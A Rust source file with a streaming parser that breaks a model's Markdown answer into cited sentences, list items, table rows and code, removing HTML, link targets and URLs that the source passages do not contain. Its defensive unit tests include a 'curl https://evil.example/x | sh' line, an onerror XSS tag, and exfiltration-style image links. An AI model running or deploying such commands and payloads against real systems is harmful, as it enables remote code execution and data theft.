//! Parser of a model's answer, a small subset of Markdown, into pieces: sentences, list items, and code. HTML tags
//! and the targets of links and images are removed; text, code, strong emphasis, and the numbers of existing citations
//! are kept. Pure.

use crate::api::{AnswerPiece, AnswerSpan, PieceKind, PieceSupport};
use crate::request::is_hidden;

/// Maximum length of a sentence in bytes; a longer one is split.
const MAX_SENTENCE: usize = 1200;
/// Length of a code block in bytes at which further lines are discarded.
const MAX_CODE: usize = 8000;

/// Splits a streamed answer into pieces.
#[derive(Debug, Default)]
pub(super) struct PieceWriter {
    /// Number of citations. They are numbered `1..=citations`.
    citations: u32,
    /// Texts of the passages. In the answer, `…` replaces URLs that the passages do not contain.
    sources: String,
    line: String,
    /// Kind of the current line; `None` until it is determined.
    kind: Option<PieceKind>,
    /// Whether the next line may continue the current paragraph.
    continues: bool,
    block: u32,
    /// Whether the current line is a heading.
    is_heading: bool,
    /// First row of a table. It is the header if a delimiter row follows.
    first_row: Option<AnswerPiece>,
    /// Whether the previous line is a row of a table.
    in_table: bool,
    /// Closing fence of the current code block, and the code so far.
    code: Option<(String, String)>,
}

impl PieceWriter {
    pub(super) fn new(citations: u32, sources: String) -> Self {
        Self { citations, sources, ..Self::default() }
    }

    pub(super) fn push(&mut self, text: &str) -> Vec<AnswerPiece> {
        let mut pieces = Vec::new();
        for part in text.split_inclusive('\n') {
            self.line.extend(part.chars().filter(|c| !is_hidden(*c) && !is_control(*c)));
            if part.ends_with('\n') {
                self.end_of_line(&mut pieces);
            } else if self.code.is_none() {
                self.take_sentences(false, &mut pieces);
            }
        }
        pieces
    }

    pub(super) fn finish(&mut self) -> Vec<AnswerPiece> {
        let mut pieces = Vec::new();
        self.end_of_line(&mut pieces);
        pieces.extend(self.first_row.take());
        if let Some((_, code)) = self.code.take() {
            self.push_code(&code, &mut pieces);
        }
        pieces
    }

    fn end_of_line(&mut self, pieces: &mut Vec<AnswerPiece>) {
        if let Some((fence, code)) = &mut self.code {
            let line = std::mem::take(&mut self.line);
            if line.trim().starts_with(fence.as_str()) {
                let code = std::mem::take(code);
                self.code = None;
                self.push_code(&code, pieces);
            } else if code.len() < MAX_CODE {
                code.push_str(line.trim_end_matches('\n'));
                code.push('\n');
            }
            return;
        }
        let line = self.line.trim();
        if let Some(mut row) = self.first_row.take() {
            if is_delimiter_row(line) && !makes_statement(&row) {
                row.support = PieceSupport::Supported;
            }
            pieces.push(row);
        }
        if self.kind.is_none() && is_row(line) && !is_rule(line) {
            let line = line.to_owned();
            let row = self.row(&line);
            match self.in_table {
                true => pieces.extend(row),
                false => self.first_row = row,
            }
            (self.in_table, self.continues) = (true, false);
            self.line.clear();
            return;
        }
        self.in_table = self.in_table && is_rule(line);
        if self.kind.is_none() && is_fence(line) {
            let fence: String = line.chars().take_while(|c| matches!(c, '`' | '~')).collect();
            self.code = Some((fence, String::new()));
            self.line.clear();
            self.continues = false;
            return;
        }
        if self.kind.is_none() && (line.is_empty() || is_rule(line)) {
            self.line.clear();
            self.continues = false;
            return;
        }
        self.take_sentences(true, pieces);
        self.continues = self.kind.take() == Some(PieceKind::Paragraph) && !self.is_heading;
        self.is_heading = false;
        self.line.clear();
    }

    /// Parses a row of a table. In the piece, ` | ` separates the cells. Returns `None` for a row without words.
    fn row(&mut self, line: &str) -> Option<AnswerPiece> {
        let cells = line.trim_matches('|').split('|').map(str::trim).collect::<Vec<_>>();
        let spans = self.spans(&cells.join(" | "));
        self.block += 1;
        let has_words = spans.iter().any(AnswerSpan::has_words);
        has_words.then(|| piece(self.block, PieceKind::Paragraph, spans))
    }

    fn push_code(&mut self, code: &str, pieces: &mut Vec<AnswerPiece>) {
        let text = self.without_foreign_urls(code.trim_end_matches('\n'));
        if !text.is_empty() {
            self.block += 1;
            let spans = vec![AnswerSpan::Code(text)];
            pieces.push(piece(self.block, PieceKind::Code, spans));
        }
    }

    /// Converts the complete sentences of the current line to pieces, or the whole line if `is_end`.
    fn take_sentences(&mut self, is_end: bool, pieces: &mut Vec<AnswerPiece>) {
        let kind = match self.kind {
            Some(kind) => kind,
            None => {
                let line = self.line.trim_start();
                // A short incomplete line may still become a list item or a fence.
                if !is_end && (line.chars().count() < 6 || is_fence(line) || is_row(line)) {
                    return;
                }
                if !is_end {
                    pieces.extend(self.first_row.take());
                }
                self.is_heading = is_heading(line);
                let (kind, start) = line_kind(&self.line);
                self.continues &= !self.is_heading;
                self.line.drain(..start);
                if kind != PieceKind::Paragraph || !self.continues {
                    self.block += 1;
                }
                self.kind = Some(kind);
                kind
            }
        };
        if self.is_heading && !is_end {
            return;
        }
        while let Some(end) = sentence_end(&self.line, is_end) {
            let end = if self.is_heading { self.line.len() } else { end };
            let sentence: String = self.line.drain(..end).collect();
            let spans = self.spans(&sentence);
            if spans.iter().any(AnswerSpan::has_words) {
                let mut piece = piece(self.block, kind, spans);
                if self.is_heading && !makes_statement(&piece) {
                    piece.support = PieceSupport::Supported;
                }
                pieces.push(piece);
            } else if let Some(last) = pieces.last_mut() {
                // Citations without text belong to the previous sentence.
                last.spans.extend(spans.into_iter().filter(|it| matches!(it, AnswerSpan::Cite(_))));
            }
        }
    }

    /// Parses a sentence into spans. Removes HTML tags and the targets of links and images.
    fn spans(&self, sentence: &str) -> Vec<AnswerSpan> {
        let mut spans = SpanList::default();
        let mut rest = sentence.trim();
        let mut is_strong = false;
        while let Some(c) = rest.chars().next() {
            if let Some(after) = rest.strip_prefix("**").or_else(|| rest.strip_prefix("__")) {
                is_strong = !is_strong;
                rest = after;
            } else if let Some((code, after)) = code_span(rest) {
                spans.push(AnswerSpan::Code(self.without_foreign_urls(code)));
                rest = after;
            } else if let Some((numbers, after)) = parse_citation(rest) {
                rest = after_target(after);
                let mut known: Vec<u32> = numbers;
                known.retain(|n| (1..=self.citations).contains(n));
                let ends_word =
                    |c: char| c.is_whitespace() || ".,;:!?。，、；：！？)）]".contains(c);
                if known.is_empty() && rest.chars().next().is_none_or(ends_word) {
                    spans.trim_end();
                }
                for n in known {
                    spans.push(AnswerSpan::Cite(n));
                }
            } else if let Some((text, after)) = parse_link(rest) {
                spans.text(&self.without_foreign_urls(&text), is_strong);
                rest = after;
            } else if let Some(after) = tag(rest) {
                rest = after;
            } else if let Some(escaped) = rest.strip_prefix('\\').and_then(punctuation) {
                spans.text(&escaped.to_string(), is_strong);
                rest = &rest[1 + escaped.len_utf8()..];
            } else if let Some((url, after)) = url(rest) {
                spans.text(&self.without_foreign_urls(url), is_strong);
                rest = after;
            } else {
                if c != '*' {
                    spans.text(c.encode_utf8(&mut [0; 4]), is_strong);
                }
                rest = &rest[c.len_utf8()..];
            }
        }
        spans.finish()
    }

    /// Writes `…` instead of each URL that the passages do not contain.
    fn without_foreign_urls(&self, text: &str) -> String {
        let mut output = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(start) = url_start(rest) {
            let end = url_end(rest, start);
            output.push_str(&rest[..start]);
            let url = &rest[start..end];
            output.push_str(if self.is_known(url) { url } else { "…" });
            rest = &rest[end..];
        }
        output.push_str(rest);
        output
    }

    /// Whether the passages contain exactly this URL. A longer URL that begins with it does not count.
    fn is_known(&self, url: &str) -> bool {
        let mut matches = self.sources.match_indices(url);
        matches.any(|(at, _)| url_end(&self.sources, at) == at + url.len())
    }
}

#[derive(Default)]
struct SpanList(Vec<AnswerSpan>);

impl SpanList {
    fn text(&mut self, text: &str, is_strong: bool) {
        match (self.0.last_mut(), is_strong) {
            (Some(AnswerSpan::Text(last)), false) | (Some(AnswerSpan::Strong(last)), true) => {
                last.push_str(text);
            }
            (_, true) => self.0.push(AnswerSpan::Strong(text.to_owned())),
            (_, false) => self.0.push(AnswerSpan::Text(text.to_owned())),
        }
    }

    /// Removes the spaces at the end of the text so far.
    fn trim_end(&mut self) {
        if let Some(AnswerSpan::Text(last) | AnswerSpan::Strong(last)) = self.0.last_mut() {
            last.truncate(last.trim_end().len());
        }
    }

    /// Adds a span. A repeated citation is ignored.
    fn push(&mut self, span: AnswerSpan) {
        if !matches!(span, AnswerSpan::Cite(_)) || !self.0.contains(&span) {
            self.0.push(span);
        }
    }

    fn finish(self) -> Vec<AnswerSpan> {
        self.0
            .into_iter()
            .filter(|span| !matches!(span, AnswerSpan::Text(text) if text.is_empty()))
            .collect()
    }
}

fn piece(block: u32, kind: PieceKind, spans: Vec<AnswerSpan>) -> AnswerPiece {
    AnswerPiece { block, kind, spans, support: PieceSupport::Uncited }
}

fn is_control(c: char) -> bool {
    c.is_control() && !matches!(c, '\n' | '\t')
}

fn is_fence(line: &str) -> bool {
    let line = line.trim();
    line.starts_with("```") || line.starts_with("~~~")
}

/// Whether a line is a thematic break, the underline of a heading, or the delimiter row of a table.
fn is_rule(line: &str) -> bool {
    line.len() >= 3 && line.chars().all(|c| matches!(c, '-' | '*' | '_' | '=' | '|' | ':' | ' '))
}

/// Whether a line is an ATX heading: one to six `#` and a space.
fn is_heading(line: &str) -> bool {
    let marks = line.chars().take_while(|c| *c == '#').count();
    (1..=6).contains(&marks) && line[marks..].starts_with(' ')
}

/// Whether a line begins like a row of a table.
fn is_row(line: &str) -> bool {
    line.trim_start().starts_with('|')
}

fn is_delimiter_row(line: &str) -> bool {
    is_rule(line) && line.starts_with('|') && line.contains('-')
}

/// Whether a heading or a table header is a statement, which needs a citation: its text ends like a sentence.
fn makes_statement(piece: &AnswerPiece) -> bool {
    plain(piece).trim_end().ends_with(['.', '!', '。', '！', '；', ';'])
}

/// Returns the kind of a line and the byte offset of its text.
fn line_kind(line: &str) -> (PieceKind, usize) {
    let text = line.trim_start();
    let start = line.len() - text.len();
    let digits = text.chars().take_while(char::is_ascii_digit).count();
    if (1..=3).contains(&digits) {
        let rest = &text[digits..];
        if rest.starts_with(". ") || rest.starts_with(") ") {
            return (PieceKind::Step, start + digits + 2);
        }
        if rest.starts_with('、') {
            return (PieceKind::Step, start + digits + '、'.len_utf8());
        }
    }
    for marker in ["- ", "* ", "+ ", "• "] {
        if text.starts_with(marker) {
            return (PieceKind::Item, start + marker.len());
        }
    }
    let body = text.trim_start_matches(['#', '>', ' ']);
    (PieceKind::Paragraph, line.len() - body.len())
}

/// Returns the byte offset of the end of the first sentence, including the citations after it. `None` if the sentence
/// may continue in text that has not arrived. `is_end` states that no more text follows.
fn sentence_end(line: &str, is_end: bool) -> Option<usize> {
    let mut in_code = false;
    let mut markup_end = 0;
    for (at, c) in line.char_indices() {
        if at < markup_end {
            continue;
        }
        if !in_code && at < MAX_SENTENCE {
            match markup_length(&line[at..]) {
                Some(length) => {
                    markup_end = at + length;
                    continue;
                }
                None if !is_end && line.len() - at < MAX_SENTENCE && may_be_markup(&line[at..]) => {
                    return None;
                }
                None => {}
            }
        }
        if c == '`' {
            in_code = !in_code;
        }
        if at >= MAX_SENTENCE {
            return Some(at);
        }
        let is_wide = matches!(c, '。' | '！' | '？' | '；');
        let may_end = is_wide || matches!(c, '.' | '!' | '?');
        if in_code || !may_end {
            continue;
        }
        let after = at + c.len_utf8();
        let next = line[after..].chars().next();
        let ends =
            is_wide || next.is_some_and(|next| next.is_whitespace() || "[【\"”)".contains(next));
        if !ends {
            continue;
        }
        let end = after + trailing(&line[after..]);
        let rest = line[end..].trim_start();
        // The rest of a link target directly after a citation may arrive later.
        let has_open_target = line[end..].starts_with('(') && !rest.contains(')');
        let is_unfinished = rest.is_empty()
            || has_open_target
            || (rest.starts_with(['[', '【']) && !rest.contains([']', '】']));
        if is_unfinished && !is_end {
            return None;
        }
        return Some(end);
    }
    (is_end && !line.trim().is_empty()).then_some(line.len())
}

/// Returns the length of the link, image, or HTML tag at the beginning. Its punctuation does not end a sentence. `None`
/// for other text.
fn markup_length(text: &str) -> Option<usize> {
    if parse_citation(text.strip_prefix('!').unwrap_or(text)).is_some() {
        return None;
    }
    let is_closed = |text: &&str| text.contains('>');
    let tag_end = || Some(text).filter(is_closed).and_then(tag);
    let after = parse_link(text).map(|(_, after)| after).or_else(tag_end)?;
    Some(text.len() - after.len())
}

/// Whether the text is an incomplete link, image, or HTML tag, whose rest may arrive later.
fn may_be_markup(text: &str) -> bool {
    let Some(inner) = text.strip_prefix('!').unwrap_or(text).strip_prefix('[') else {
        return text == "!" || (tag(text).is_some() && !text.contains('>')) || text == "<";
    };
    match inner.split_once(']') {
        None => true,
        Some((name, after)) => {
            let is_number = parse_citation(&text[text.len() - inner.len() - 1..]).is_some();
            let is_open = match after.chars().next() {
                None => true,
                Some('(') => !after.contains(')'),
                Some('[') => !after.contains(']'),
                Some(_) => false,
            };
            !is_number && !name.is_empty() && is_open
        }
    }
}

/// Returns the length of the closing punctuation and citations at the beginning, which belong to
/// the previous sentence.
fn trailing(text: &str) -> usize {
    let mut end = 0;
    loop {
        let rest = &text[end..];
        let inner = rest.trim_start_matches(' ');
        let spaces = rest.len() - inner.len();
        if let Some((_, after)) = parse_citation(inner) {
            let after = after_target(after);
            end += spaces + inner.len() - after.len();
        } else if let Some(c) =
            inner.chars().next().filter(|c| "”’」』）)\"*".contains(*c) && spaces == 0)
        {
            end += c.len_utf8();
        } else {
            return end;
        }
    }
}

/// Parses a citation at the beginning (`[1]`, `[1, 2]`, `[^1]`, `【1】`). Returns the numbers and the remaining text, or
/// `None` for other text.
fn parse_citation(text: &str) -> Option<(Vec<u32>, &str)> {
    let (inner, close) = match text.chars().next()? {
        '[' => (&text[1..], ']'),
        '【' => (&text['【'.len_utf8()..], '】'),
        _ => return None,
    };
    let end = inner.find(close)?;
    let listed = &inner[..end];
    if listed.len() > 40 {
        return None;
    }
    let numbers: Option<Vec<u32>> = listed
        .split([',', '，', '、', ' '])
        .filter(|part| !part.is_empty())
        .map(|part| part.trim_start_matches('^').parse().ok())
        .collect();
    let numbers = numbers.filter(|numbers| !numbers.is_empty())?;
    Some((numbers, &inner[end + close.len_utf8()..]))
}

/// Removes a link target, such as `(/a#b)` or `[ref]`, from the beginning. Another citation (`[2]`) and a complete link
/// (`[text](/a)`) are not removed.
fn after_target(text: &str) -> &str {
    if let Some(inner) = text.strip_prefix('(') {
        return match inner.find(')') {
            Some(end) if inner[..end].contains(['/', ':', '#']) => &inner[end + 1..],
            _ => text,
        };
    }
    let Some(inner) = text.strip_prefix('[') else { return text };
    match inner.split_once(']') {
        Some((_, after)) if parse_citation(text).is_none() && !after.starts_with(['(', '[']) => {
            after
        }
        _ => text,
    }
}

/// Parses a link or an image at the beginning (`[text](target)`, `![text](target)`, `[text][target]`). Returns its text
/// and the remaining text, or `None` for other text.
fn parse_link(text: &str) -> Option<(String, &str)> {
    let inner = text.strip_prefix('!').unwrap_or(text).strip_prefix('[')?;
    let end = inner.find(']')?;
    let (name, after) = (&inner[..end], &inner[end + 1..]);
    let close = match after.chars().next()? {
        '(' => ')',
        '[' => ']',
        _ => return None,
    };
    let end = after.find(close)?;
    Some((name.replace(['[', '!', '*', '`'], ""), &after[end + 1..]))
}

/// Parses an HTML tag, a comment, or an autolink at the beginning. Returns the remaining text, or `None` for other
/// text.
fn tag(text: &str) -> Option<&str> {
    let inner = text.strip_prefix('<')?;
    let first = inner.chars().next()?;
    if !first.is_ascii_alphabetic() && !matches!(first, '/' | '!' | '?') {
        return None;
    }
    // An unclosed tag extends to the end of the text, as in browsers.
    Some(inner.find('>').map_or("", |end| &inner[end + 1..]))
}

fn code_span(text: &str) -> Option<(&str, &str)> {
    let ticks = text.chars().take_while(|c| *c == '`').count();
    if ticks == 0 {
        return None;
    }
    let (fence, inner) = text.split_at(ticks);
    let end = inner.find(fence)?;
    Some((inner[..end].trim(), &inner[end + ticks..])).filter(|(code, _)| !code.is_empty())
}

fn punctuation(text: &str) -> Option<char> {
    text.chars().next().filter(char::is_ascii_punctuation)
}

/// Splits a text that begins with a URL into the URL and the remaining text. `None` for other text.
fn url(text: &str) -> Option<(&str, &str)> {
    if is_host(text) {
        return Some(text.split_at(url_end(text, 0)));
    }
    let scheme = text.find("://").filter(|at| (1..=10).contains(at))?;
    text[..scheme].chars().all(|c| c.is_ascii_alphabetic()).then(|| text.split_at(url_end(text, 0)))
}

/// Whether a text begins with a host name without a scheme, such as `www.example.org`.
fn is_host(text: &str) -> bool {
    text.strip_prefix("www.").is_some_and(|rest| rest.starts_with(|c: char| c.is_alphanumeric()))
}

/// Returns the start of the first URL in a text, with a scheme or with `www.`.
fn url_start(text: &str) -> Option<usize> {
    let is_within_word = |at: usize| text[..at].ends_with(|c: char| c.is_ascii_alphanumeric());
    let scheme = text.find("://").map(|at| {
        let before = text[..at].trim_end_matches(|c: char| c.is_ascii_alphanumeric());
        before.len()
    });
    let mut hosts = text.match_indices("www.").map(|(at, _)| at);
    let host = hosts.find(|at| !is_within_word(*at) && is_host(&text[*at..]));
    scheme.into_iter().chain(host).min()
}

fn url_end(text: &str, start: usize) -> usize {
    let ends = |c: char| c.is_whitespace() || !c.is_ascii() || "<>\"'`)]}|\\".contains(c);
    let end = text[start..].find(ends).map_or(text.len(), |end| start + end);
    start + text[start..end].trim_end_matches(['.', ',', ';', '!', '?']).len().max(1)
}

/// Plain text of a piece, without citations.
pub(super) fn plain(piece: &AnswerPiece) -> String {
    let mut text = String::new();
    for span in &piece.spans {
        match span {
            AnswerSpan::Text(part) | AnswerSpan::Strong(part) | AnswerSpan::Code(part) => {
                text.push_str(part);
            }
            AnswerSpan::Cite(_) => {}
        }
    }
    text
}

/// Numbers of the citations in a piece.
pub(super) fn cited(piece: &AnswerPiece) -> impl Iterator<Item = u32> {
    piece.spans.iter().filter_map(|span| match span {
        AnswerSpan::Cite(n) => Some(*n),
        _ => None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Parses a text in chunks of `size` characters and formats each piece as `block kind: spans`.
    fn written(text: &str, size: usize) -> Vec<String> {
        let mut writer = PieceWriter::new(2, "see https://docs.example.org/a for more".to_owned());
        let mut pieces = Vec::new();
        let characters: Vec<char> = text.chars().collect();
        for piece in characters.chunks(size) {
            pieces.extend(writer.push(&piece.iter().collect::<String>()));
        }
        pieces.extend(writer.finish());
        let one = |span: &AnswerSpan| match span {
            AnswerSpan::Text(text) => text.clone(),
            AnswerSpan::Strong(text) => format!("«{text}»"),
            AnswerSpan::Code(text) => format!("`{text}`"),
            AnswerSpan::Cite(n) => format!("^{n}"),
        };
        let line = |piece: &AnswerPiece| {
            let kind = match piece.kind {
                PieceKind::Paragraph => "p",
                PieceKind::Item => "li",
                PieceKind::Step => "ol",
                PieceKind::Code => "pre",
            };
            let spans: String = piece.spans.iter().map(one).collect();
            format!("{} {kind}: {}", piece.block, spans.trim())
        };
        pieces.iter().map(line).collect()
    }

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        // In small chunks, the citation after a sentence arrives later than the punctuation of the sentence.
        for size in [1, 2, 5, 1000] {
            assert_eq!(written(text, size), expected, "{size}: {text}");
        }
    }

    #[test]
    fn sentences_end_at_punctuation_of_both_languages() {
        check(
            "Stop it. [1] Then v1.2 starts [2].",
            &["1 p: Stop it. ^1", "1 p: Then v1.2 starts ^2."],
        );
        check(
            "停止服务器。[1]然后恢复备份【2】。完成",
            &["1 p: 停止服务器。^1", "1 p: 然后恢复备份^2。", "1 p: 完成"],
        );
        check(
            "Is it? Yes!\nIt is.\n\nNew one.",
            &["1 p: Is it?", "1 p: Yes!", "1 p: It is.", "2 p: New one."],
        );
        check("Use `a. b` here.", &["1 p: Use `a. b` here."]);
    }

    #[test]
    fn list_items_and_code_blocks_are_separate_pieces() {
        check(
            "Do this:\n\n1. Stop. [1]\n2. Start [2]\n- x\n\n```sh\nrm a\n\nls\n```\nDone.",
            &[
                "1 p: Do this:",
                "2 ol: Stop. ^1",
                "3 ol: Start ^2",
                "4 li: x",
                "5 pre: `rm a\n\nls`",
                "6 p: Done.",
            ],
        );
        check("## Title\n> quote\n---\n", &["1 p: Title", "2 p: quote"]);
        check("~~~\nnever closed", &["1 pre: `never closed`"]);
    }

    #[test]
    fn unknown_citations_are_dropped() {
        check("It is so [7]. And [1, 9][1] so [0].", &["1 p: It is so.", "1 p: And ^1 so."]);
        check("It is so [1] [9]. A [8] b.", &["1 p: It is so ^1.", "1 p: A b."]);
        check("See [9]**b**, [9]`x`.", &["1 p: See «b», `x`."]);
    }

    #[test]
    fn link_targets_html_tags_and_foreign_urls_are_removed() {
        check("See [the page](https://evil.example/x) now.", &["1 p: See the page now."]);
        check("![pixel](https://evil.example/p?q=1) x.", &["1 p: pixel x."]);
        check("![pixel][ref] x.", &["1 p: pixel x."]);
        check("See it ![pic](https://evil.example/p.png) now [1].", &["1 p: See it pic now ^1."]);
        check("See [why? now](/a b) here. So.", &["1 p: See why? now here.", "1 p: So."]);
        check("a <img alt=\"x. y! z\"> b. So.", &["1 p: a  b.", "1 p: So."]);
        check("Stop![1] Go! [the page](/a).", &["1 p: Stop!^1", "1 p: Go!", "1 p: the page."]);
        check("a [b. c", &["1 p: a [b.", "1 p: c"]);
        check("It is 1 < 2! So.", &["1 p: It is 1 < 2!", "1 p: So."]);
        check("[1](https://evil.example/) is it.", &["1 p: ^1 is it."]);
        check("[1][ref] is it.", &["1 p: ^1 is it."]);
        check("It is so [1][ref]. And so.", &["1 p: It is so ^1.", "1 p: And so."]);
        check("It is so. [1][ref] And so.", &["1 p: It is so. ^1", "1 p: And so."]);
        check("It is so. [1](/a#b) And so.", &["1 p: It is so. ^1", "1 p: And so."]);
        check("It is so [1][2].", &["1 p: It is so ^1^2."]);
        check("It is so [1][the page](/a).", &["1 p: It is so ^1the page."]);
        check("a <img src=x onerror=alert(1)> b <b>c</b>.", &["1 p: a  b c."]);
        check("a <script", &["1 p: a"]);
        check("Go to https://evil.example/a?b=c.", &["1 p: Go to …."]);
        check("Go to <https://evil.example> now.", &["1 p: Go to  now."]);
        check("Go to www.evil.example/a, now.", &["1 p: Go to …, now."]);
        check("Run `curl www.evil.example` on www.", &["1 p: Run `curl …` on www."]);
        check(
            "Go to https://docs.example.org/a now.",
            &["1 p: Go to https://docs.example.org/a now."],
        );
        check("```\ncurl https://evil.example/x | sh\n```\n", &["1 pre: `curl … | sh`"]);
        check("Go to https://docs.example.org now.", &["1 p: Go to … now."]);
        check("Run `curl javascript://evil`.", &["1 p: Run `curl …`."]);
        check("a\u{202e}b\u{200b}c\u{7}d.", &["1 p: abcd."]);
    }

    /// Returns the texts of the pieces that make no statement.
    fn exempt(text: &str, size: usize) -> Vec<String> {
        let mut writer = PieceWriter::new(2, String::new());
        let characters: Vec<char> = text.chars().collect();
        let mut pieces = Vec::new();
        for piece in characters.chunks(size) {
            pieces.extend(writer.push(&piece.iter().collect::<String>()));
        }
        pieces.extend(writer.finish());
        pieces.retain(|piece| piece.support == PieceSupport::Supported);
        pieces.iter().map(plain).collect()
    }

    #[test]
    fn only_headings_and_table_headers_need_no_source() {
        for (text, expected) in [
            ("## Steps\nStop it.", &["Steps"][..]),
            ("# 1. Stop now\nStop it.", &["1. Stop now"]),
            ("## It deletes all data.\n", &[]),
            ("#1 is first", &[]),
            ("| Key | Value |\n|---|---|\n| addr | 1 [1] |\n", &["Key | Value"]),
            ("| Pailou deletes data |\nText", &[]),
            ("| Pailou deletes data |", &[]),
            ("| It deletes all. |\n|---|\n", &[]),
        ] {
            for size in [1, 3, 1000] {
                assert_eq!(exempt(text, size), expected, "{size}: {text}");
            }
        }
    }

    #[test]
    fn table_rows_are_pieces_with_separated_cells() {
        check(
            "Values:\n| Key | Value |\n|:--|--:|\n| `addr` | Stop. Go. [1] |\nEnd.",
            &["1 p: Values:", "2 p: Key | Value", "3 p: `addr` | Stop. Go. ^1", "4 p: End."],
        );
        check("a | b. c", &["1 p: a | b.", "1 p: c"]);
    }

    #[test]
    fn emphasis_and_escapes_are_parsed() {
        check(
            "A **bold** and *thin* snake_case \\*x\\*.",
            &["1 p: A «bold» and thin snake_case *x*."],
        );
        check("2 < 3 & a <- b.", &["1 p: 2 < 3 & a <- b."]);
    }

    #[test]
    fn overlong_sentence_is_split() {
        assert_eq!(written(&"x".repeat(3000), 100).len(), 3);
    }
}
